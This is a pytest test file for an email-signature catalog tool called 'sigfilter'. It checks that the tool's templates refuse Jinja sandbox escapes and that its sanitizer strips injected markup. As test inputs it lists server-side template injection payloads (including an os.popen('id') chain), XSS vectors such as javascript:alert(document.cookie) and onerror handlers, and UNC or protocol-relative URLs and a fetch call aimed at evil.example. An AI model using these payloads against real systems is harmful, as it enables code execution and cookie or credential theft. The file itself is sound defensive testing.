"""Template and field injection: templates cannot run code, fields cannot add markup,
and signature HTML is sanitized to what mail clients render.

Every expected output here is written by hand.
"""

from __future__ import annotations

import shutil
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from sigfilter.catalog import RenderError, compile_catalog, load_catalog
from sigfilter.catalog.compiled import UserRecord
from sigfilter.catalog.sanitize import sanitize_html
from sigfilter.cli import main

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "catalog"
AVERY = "avery.quill@example.com"


@pytest.fixture
def cat_dir(tmp_path: Path) -> Path:
    target = tmp_path / "catalog"
    shutil.copytree(EXAMPLE, target)
    return target


def template(root: Path, name: str = "default.html") -> Path:
    return root / "tenants" / "example.com" / "templates" / "default" / name


def users(root: Path) -> Path:
    return root / "tenants" / "example.com" / "users.csv"


def check(root: Path) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["catalog", "check", str(root)])
    return result.exit_code, result.output


def avery_entry(root: Path) -> tuple[str, str]:
    """(html, text) of Avery's default signature, compiled as publish does."""
    records = compile_catalog(load_catalog(root))
    entry = UserRecord.from_json(records[f"user:{AVERY}"]).entries[-1]
    return entry.html, entry.text


# -- sandbox escapes are refused at `sigfilter catalog check`, with FILE:LINE -----------

ESCAPES = [
    ("{{ ''.__class__.__mro__ }}", "not allowed in a template"),
    ("{{ cycler.__init__.__globals__ }}", "unknown field 'cycler'"),
    ("{{ joiner.__init__.__globals__.os }}", "unknown field 'joiner'"),
    ("{{ lipsum.__globals__['os'].popen('id').read() }}", "unknown field 'lipsum'"),
    ("{{ namespace.__init__.__globals__ }}", "unknown field 'namespace'"),
    ("{{ self._TemplateReference__context }}", "unknown field 'self'"),
    ("{{ display_name.__class__ }}", "attribute or item access"),
    ("{{ display_name.upper() }}", "attribute or item access"),
    ("{{ display_name['__class__'] }}", "attribute or item access"),
    ("{{ display_name|attr('__class__') }}", "the filter |attr"),
    ("{{ image.__globals__ }}", "attribute or item access"),
    ("{{ range(10) }}", "unknown field 'range'"),
    ("{% import 'default.html' as d %}", "{% import %}: templates cannot load other files"),
    ("{% from 'default.html' import x %}", "templates cannot load other files"),
    ("{% include 'default.txt' %}", "{% include %}: templates cannot load other files"),
    ("{% extends 'reply.html' %}", "{% extends %}: templates cannot load other files"),
    ("{{ display_name|safe }}", "the filter |safe"),
    ("{% autoescape false %}{{ display_name }}{% endautoescape %}", "{% autoescape %}"),
    ("{% filter upper %}x{% endfilter %}", "{% filter %}"),
    ("{% macro m() %}x{% endmacro %}", "{% macro %}"),
    ("{% for c in display_name %}{{ c }}{% endfor %}", "{% for %}"),
    ("{{ 9**9**9 }}", "the operator **"),
    ("{{ 'x' * 1000000000 }}", "the operator *"),
    ("{{ '%999999999d' % 1 }}", "the operator %"),
    ("{{ display_name|center(1000000000) }}", "the filter |center"),
    ("{{ display_name|truncate(1000000000) }}", "the number 1000000000"),
    ("{{ {'a': 1} }}", "Dict expressions"),
]


@pytest.mark.parametrize(("attack", "message"), ESCAPES, ids=[e[0][:40] for e in ESCAPES])
def test_sandbox_escape_refused_by_catalog_check(cat_dir: Path, attack: str, message: str) -> None:
    path = template(cat_dir)
    path.write_text("<p>{{ display_name }}</p>\n" + attack + "\n")
    started = time.monotonic()
    code, output = check(cat_dir)
    # Refused before compiling: 9**9**9 would run for hours, so a minute is no speed claim.
    assert time.monotonic() - started < 60
    assert code == 65, output
    lines = [line.strip() for line in output.splitlines()]
    assert any(line.startswith(f"{path}:2: ") and message in line for line in lines), output


def test_escape_refused_at_render_too_when_check_is_skipped(cat_dir: Path) -> None:
    """publish and the embedded store compile without `catalog check`: still refused."""
    path = template(cat_dir)
    path.write_text("<p>{{ display_name }}</p>\n{{ ''.__class__.__mro__ }}\n")
    with pytest.raises(RenderError, match=rf"^{path}:2: not allowed in a template"):
        compile_catalog(load_catalog(cat_dir))


def test_text_templates_are_held_to_the_same_rules(cat_dir: Path) -> None:
    path = template(cat_dir, "default.txt")
    path.write_text("-- \n{{ display_name }}\n{% include 'default.html' %}\n")
    code, output = check(cat_dir)
    assert code == 65
    assert f"{path}:3: not allowed in a template: {{% include %}}" in output


def test_what_signatures_need_is_allowed(cat_dir: Path) -> None:
    template(cat_dir).write_text(
        "<table><tr><td>{{ display_name|upper }}</td></tr>\n"
        "{% set title = job_title ~ ', ' ~ department %}"
        "<tr><td>{{ title }}</td></tr>\n"
        "<tr><td>{% if mobile %}M {{ mobile }}{% else %}T {{ phone|default('none') }}"
        "{% endif %}</td></tr>\n"
        '<tr><td><img src="{{ image(\'logo.png\') }}" alt="logo"></td></tr></table>\n'
    )
    code, output = check(cat_dir)
    assert code == 0, output
    html, _ = avery_entry(cat_dir)
    assert html == (
        "<table><tbody><tr><td>AVERY QUILL</td></tr>\n"
        "<tr><td>Head of Mail Flow, IT</td></tr>\n"
        "<tr><td>T +1 555 0100</td></tr>\n"
        '<tr><td><img src="https://www.example.com/signature/logo.png" alt="logo">'
        "</td></tr></tbody></table>"
    )


# -- directory fields cannot inject markup ------------------------------------------------

FIELD_TEMPLATE = (
    "<table><tr><td><b>{{ display_name }}</b></td></tr>\n"
    '<tr><td><a href="{{ website }}">{{ job_title }}</a></td></tr></table>\n'
)


@pytest.mark.parametrize(
    ("name", "title", "website", "expected"),
    [
        (
            "<script>alert(1)</script>",
            "CEO",
            "https://www.example.com/",
            "<table><tbody><tr><td><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></td></tr>\n"
            '<tr><td><a href="https://www.example.com/">CEO</a></td></tr></tbody></table>',
        ),
        (
            "Avery Quill",
            '"><img src=x onerror=alert(1)>',
            "https://www.example.com/",
            "<table><tbody><tr><td><b>Avery Quill</b></td></tr>\n"
            '<tr><td><a href="https://www.example.com/">"&gt;&lt;img src=x onerror=alert(1)&gt;'
            "</a></td></tr></tbody></table>",
        ),
        (
            "Avery Quill",
            "CEO",
            "javascript:alert(document.cookie)",
            "<table><tbody><tr><td><b>Avery Quill</b></td></tr>\n"
            "<tr><td><a>CEO</a></td></tr></tbody></table>",
        ),
        (
            "Avery Quill",
            "CEO",
            '" onmouseover="alert(1)',
            "<table><tbody><tr><td><b>Avery Quill</b></td></tr>\n"
            "<tr><td><a>CEO</a></td></tr></tbody></table>",  # not an absolute URL: removed
        ),
        (
            "Avery Quill",
            "CEO",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "<table><tbody><tr><td><b>Avery Quill</b></td></tr>\n"
            "<tr><td><a>CEO</a></td></tr></tbody></table>",
        ),
        (
            "{{ 7*7 }}",
            "{% include 'x' %}",
            "https://www.example.com/",
            "<table><tbody><tr><td><b>{{ 7*7 }}</b></td></tr>\n"
            '<tr><td><a href="https://www.example.com/">{% include \'x\' %}</a></td></tr>'
            "</tbody></table>",
        ),
    ],
    ids=["script-name", "attribute-breakout-title", "javascript-url", "quote-breakout-url",
         "data-url", "template-syntax-in-field"],
)  # fmt: skip
def test_fields_cannot_inject_markup(
    cat_dir: Path, name: str, title: str, website: str, expected: str
) -> None:
    template(cat_dir).write_text(FIELD_TEMPLATE)
    row = [AVERY, name, title, website]
    quoted = ",".join('"' + value.replace('"', '""') + '"' for value in row)
    users(cat_dir).write_text("email,display_name,job_title,website\n" + quoted + "\n")
    html, _ = avery_entry(cat_dir)
    assert html == expected


def test_text_signature_keeps_field_text_literally(cat_dir: Path) -> None:
    template(cat_dir, "default.txt").write_text("-- \n{{ display_name }}\n")
    users(cat_dir).write_text(f'email,display_name\n{AVERY},"<b>{{{{ 7*7 }}}}</b>"\n')
    _, text = avery_entry(cat_dir)
    assert text == "-- \n<b>{{ 7*7 }}</b>"


# -- the sanitizer, one attack at a time ----------------------------------------------------

SANITIZED = [
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="  javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a>x</a>"),
    ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">', '<img alt="logo">'),
    ('<img src="http://cdn.example.com/logo.png">', "<img>"),
    ('<img src="x" onerror="alert(1)">', "<img>"),
    ('"><img src=x onerror=alert(1)>', '"&gt;<img>'),
    # issue 12: only absolute https/http/mailto/tel/cid URLs, with a host for http(s)
    ('<img src="//evil.example/x.png">', "<img>"),
    ('<a href="//evil.example/">x</a>', "<a>x</a>"),
    ('<img src="\\\\evil.example\\share\\x.png">', "<img>"),
    ('<a href="\\\\evil.example\\share">x</a>', "<a>x</a>"),
    ('<img src="&#92;&#92;evil.example&#92;s&#92;x.png">', "<img>"),
    ('<img src="https:\\\\evil.example\\x.png">', "<img>"),
    ('<img src="https://ok.example\\..\\x.png">', "<img>"),
    ('<a href="/\\evil.example">x</a>', "<a>x</a>"),
    ('<a href="file://evil.example/share/x">x</a>', "<a>x</a>"),
    ('<img src="file:///C:/x.png">', "<img>"),
    ('<a href="https://www.example.com@evil.example/">x</a>', "<a>x</a>"),
    ('<a href="https:///evil.example">x</a>', "<a>x</a>"),
    ('<a href="https:evil.example">x</a>', "<a>x</a>"),
    ('<a href="images/logo.png">x</a>', "<a>x</a>"),
    ('<a href="#top">x</a>', "<a>x</a>"),
    ('<a href="mailto:">x</a>', "<a>x</a>"),
    ('<a href="tel:javascript">x</a>', "<a>x</a>"),
    ('<a href="cid:logo@x">x</a>', "<a>x</a>"),
    ('<img src="mailto:a@example.com">', "<img>"),
    ("<script>alert(1)</script><p>hi</p>", "<p>hi</p>"),
    ('<p onclick="alert(1)" style="color:red">hi</p>', '<p style="color:red">hi</p>'),
    ('<div style="background:url(javascript:alert(1));color:#333">x</div>', '<div style="color:#333">x</div>'),
    ('<div style="width:expression(alert(1))">x</div>', "<div>x</div>"),
    ('<p style="position:fixed;top:0;color:red">x</p>', '<p style="color:red">x</p>'),
    ('<iframe src="https://evil.example/"></iframe>ok', "ok"),
    ('<form action="https://evil.example/"><input name="p">x</form>', "x"),
    ("<style>body{display:none}</style>x", "x"),
    ("<!--[if mso]><script>alert(1)</script><![endif]-->x", "x"),
    ("<svg><script>alert(1)</script></svg>x", "x"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">x', "x"),
    ('<base href="https://evil.example/">x', "x"),
    ('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">x', "x"),
    ('<a href="https://x.example/" target="_blank" onmouseover="alert(1)">w</a>', '<a href="https://x.example/">w</a>'),
]  # fmt: skip

KEPT = [
    '<img src="https://cdn.example.com/logo.png" alt="logo" width="96" height="24">',
    '<img src="cid:0123abcd.logo.png@sigfilter" alt="logo">',
    '<a href="mailto:avery.quill@example.com">m</a> <a href="tel:+15550100">t</a>'
    ' <a href="https://www.example.com/">w</a> <a href="HTTP://www.example.com:8080/a?b#c">h</a>',
    '<b>bold</b> <i>i</i> <font color="#333333" face="Arial">f</font> <span class="x">s</span>',
    '<table cellpadding="0" cellspacing="0" border="0" style="font-size:13px"><tbody>'
    '<tr><td colspan="2" valign="top">x</td></tr></tbody></table>',
]


@pytest.mark.parametrize(("attack", "expected"), SANITIZED, ids=[s[0][:40] for s in SANITIZED])
def test_sanitizer_removes(attack: str, expected: str) -> None:
    assert sanitize_html(attack) == expected


@pytest.mark.parametrize("html", KEPT, ids=["https-img", "cid-img", "links", "inline", "table"])
def test_sanitizer_keeps_what_signatures_use(html: str) -> None:
    assert sanitize_html(html) == html


def test_template_markup_is_sanitized_at_compile_time(cat_dir: Path) -> None:
    """A template author's own markup goes through the sanitizer too."""
    template(cat_dir).write_text(
        '<p onclick="steal()">{{ display_name }}</p>'
        '<script>fetch("https://evil.example/")</script>'
        '<a href="javascript:void(0)">{{ job_title }}</a>\n'
    )
    html, _ = avery_entry(cat_dir)
    assert html == "<p>Avery Quill</p><a>Head of Mail Flow</a>"


# -- URLs in templates: the sanitizer's rule, applied by `catalog check` (issue 12) --------


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ('<img src="\\\\files.example\\share\\logo.png">', "src='\\\\\\\\files.example"),
        ('<a href="//evil.example/">x</a>', "href='//evil.example/'"),
        ("<a href='images/x.html'>x</a>", "href='images/x.html'"),
        ("<img src=//evil.example/{{ email }}>", "src='//evil.example/{{"),
        ('<a href="\\\\{{ website }}">x</a>', "href='\\\\\\\\{{ website }}'"),
        ('<img src="http://cdn.example.com/x.png">', "src='http://cdn.example.com/x.png'"),
    ],
)
def test_catalog_check_refuses_urls_the_sanitizer_would_drop(
    cat_dir: Path, line: str, shown: str
) -> None:
    path = template(cat_dir)
    path.write_text("<p>{{ display_name }}</p>\n" + line + "\n")
    result = CliRunner().invoke(main, ["catalog", "check", str(cat_dir)])
    assert result.exit_code == 65, result.output
    assert f"{path}:2: {shown}" in result.output, result.output
    assert "is not allowed: only absolute" in result.output


def test_catalog_check_accepts_the_urls_signatures_use(cat_dir: Path) -> None:
    template(cat_dir).write_text(
        '<p><a href="https://www.example.com/">w</a> <a href="mailto:{{ email }}">m</a>'
        ' <a href="tel:{{ phone }}">t</a> <img src="{{ image("logo.png") }}">'
        ' <img src="cid:logo@example.com"></p>\n'
    )
    result = CliRunner().invoke(main, ["catalog", "check", str(cat_dir)])
    assert result.exit_code == 0, result.output


def test_a_unc_path_from_a_directory_field_is_removed(cat_dir: Path) -> None:
    template(cat_dir).write_text(
        '<p><a href="{{ website }}">w</a><img src="{{ website }}" alt="x"></p>\n'
    )
    users(cat_dir).write_text(f"email,display_name,website\n{AVERY},A,\\\\evil.example\\s\\x\n")
    html, _ = avery_entry(cat_dir)
    assert html == '<p><a>w</a><img alt="x"></p>'
